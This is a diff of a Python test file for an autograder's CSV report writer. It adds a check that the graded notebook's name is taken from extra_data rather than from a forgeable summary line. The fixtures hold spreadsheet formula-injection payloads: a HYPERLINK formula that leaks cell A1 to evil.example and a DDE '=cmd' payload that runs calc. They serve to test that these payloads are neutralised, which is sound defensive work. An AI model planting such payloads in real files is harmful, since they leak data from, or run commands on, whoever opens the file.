@@ -13,11 +13,13 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
 FILE_FORMULA = '=HYPERLINK("evil.example?leak="&A1,"open me")'  # a file name holds no slash
 
 
-def _results(score: float, per_test: tuple[float, float], output: str = "Graded `hw4_part1.ipynb` as X.") -> dict:
+def _results(score: float, per_test: tuple[float, float], notebook: str = "hw4_part1.ipynb") -> dict:
+    """As grade() writes them: the graded notebook's name in extra_data (reports read it there, never the summary)."""
     tests = [{"name": "first", "number": "1.1", "score": per_test[0], "max_score": 1.0},
              {"name": "second", "number": "1.2", "score": per_test[1], "max_score": 2.0},
              {"name": "Grader log (course staff only)", "score": 0.0, "max_score": 0.0, "visibility": "hidden"}]
-    return {"score": score, "output": output, "tests": tests, "extra_data": {"status": "ok", "detail": ""}}
+    return {"score": score, "output": f"Graded `{notebook}` as X.", "tests": tests,
+            "extra_data": {"status": "ok", "detail": "", "notebook": notebook}}
 
 
 def _read(path: Path) -> list[dict]:
@@ -67,7 +69,7 @@ def test_student_text_reaches_the_csv_neutralised(tmp_path):
     """A notebook named like a formula, a submitter named like one, and a detail that starts with one."""
     name = f"{FILE_FORMULA}.ipynb"
     entry = Entry(FILE_FORMULA, tmp_path / name, (Submitter(FORMULA, "@evil", "-1+2"),), recorded_score=1.0)
-    row = Row(entry, "invalid", "=cmd|' /C calc'!A0", _results(1.0, (1.0, 0.0), f"Graded `{name}` as X."), 1.0)
+    row = Row(entry, "invalid", "=cmd|' /C calc'!A0", _results(1.0, (1.0, 0.0), name), 1.0)
     reports.write_reports([row], tmp_path)
     (grades,) = _read(tmp_path / "grades.csv")
     assert (grades["submission"], grades["name"], grades["email"], grades["sid"]) == (
@@ -86,3 +88,14 @@ def test_checks_the_grader_failed_on_are_counted_for_review(tmp_path):
     reports.write_reports(rows, tmp_path)
     assert [g["needs_review"] for g in _read(tmp_path / "grades.csv")] == ["1.2", ""]
     assert "1 need review" in reports.summary_text(rows, tmp_path)
+
+
+def test_the_graded_notebook_is_read_from_extra_data_never_from_the_summary(tmp_path):
+    (tmp_path / "submission_1").mkdir()
+    entry = Entry("submission_1", tmp_path / "submission_1", ())
+    forged = _results(1.0, (1.0, 0.0)) | {"output": "Graded `forged.ipynb` as X."}
+    written = _results(1.0, (1.0, 0.0), "mine.ipynb") | {"output": "Graded `forged.ipynb` as X."}
+    unnamed = _results(1.0, (1.0, 0.0)) | {"extra_data": {"status": "ok", "detail": ""}}
+    reports.write_reports([Row(entry, "ok", "", r, 1.0) for r in (forged, written, unnamed)], tmp_path)
+    assert [g["file"] for g in _read(tmp_path / "grades.csv")] == [
+        "submission_1/hw4_part1.ipynb", "submission_1/mine.ipynb", "submission_1"]
